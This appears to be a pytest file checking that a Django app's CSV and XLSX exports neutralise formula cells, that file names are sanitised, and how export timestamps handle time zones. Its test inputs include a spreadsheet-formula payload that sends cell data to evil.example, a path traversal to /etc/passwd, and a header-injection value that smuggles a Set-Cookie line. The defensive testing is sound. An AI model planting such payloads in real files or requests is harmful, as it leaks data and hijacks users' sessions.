"""The export helper: cells that a spreadsheet would run as formulas come out as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from jisr.core.exports import content_disposition, csv_bytes, safe_cell, xlsx_bytes
from jisr.core.filenames import safe_filename

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(A1:A9)",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_starting_like_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_ordinary_text_and_numbers_are_unchanged() -> None:
    assert [safe_cell(v) for v in ["Amina Fictive", "ياسين", 0.93, -4, None, "a=b"]] == [
        "Amina Fictive",
        "ياسين",
        0.93,
        -4,
        "",
        "a=b",
    ]


def test_a_csv_export_holds_no_formula_cell() -> None:
    text = csv_bytes(["name"], [[a] for a in ATTACKS]).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert cells == ["'" + a for a in ATTACKS]


def test_an_xlsx_export_stores_every_attack_as_text() -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes(["name"], [[a] for a in ATTACKS])))
    sheet = book.worksheets[0]
    # A carriage return comes back as a line feed or as itself, depending on whether openpyxl
    # reads with lxml; either way the cell is text behind a quote.
    values = [
        (str(c.value).replace("\r", "\n"), c.data_type) for (c,) in sheet.iter_rows(min_row=2)
    ]
    assert values == [("'" + a.replace("\r", "\n"), "s") for a in ATTACKS]


@pytest.mark.parametrize(
    ("given", "safe"),
    [
        ("../../../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\report.pdf", "report.pdf"),
        ('a"\r\nSet-Cookie: pwn=1\r\nX: .txt', "a_Set-Cookie_ pwn=1X_ .txt"),
        ("...", "attachment"),
        ("تقرير الحادث.pdf", "تقرير الحادث.pdf"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
    ],
)
def test_file_names_are_reduced_to_a_safe_last_part(given: str, safe: str) -> None:
    assert safe_filename(given) == safe


def test_a_content_disposition_never_holds_a_line_break_or_a_quote() -> None:
    header = content_disposition('a"\r\nb.txt')
    assert header == "attachment; filename=\"a___b.txt\"; filename*=UTF-8''a%22%0D%0Ab.txt"


def test_times_are_exported_in_the_reader_zone_with_the_zone_named() -> None:
    import datetime as dt
    import zoneinfo

    from django.utils import timezone

    moment = dt.datetime(2026, 12, 2, 7, 30, 5, tzinfo=dt.UTC)
    header = ["Updated (UTC)", "Seen (UTC)", "Name"]
    row = [moment, moment.isoformat(), "2026-12-02T07:30:05+00:00 is text here"]
    with timezone.override(zoneinfo.ZoneInfo("Europe/Paris")):
        text = csv_bytes(header, [row]).decode("utf-8-sig")
        book = xlsx_bytes(header, [row])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["Updated (Europe/Paris)", "Seen (Europe/Paris)", "Name"],
        ["2026-12-02 08:30:05 CET", "2026-12-02 08:30:05 CET", row[2]],
    ]
    sheet = load_workbook(io.BytesIO(book), read_only=True).active
    assert [list(r) for r in sheet.iter_rows(values_only=True)] == rows
    with timezone.override(zoneinfo.ZoneInfo("Africa/Casablanca")):
        assert safe_cell(moment) == "2026-12-02 08:30:05 UTC+01"
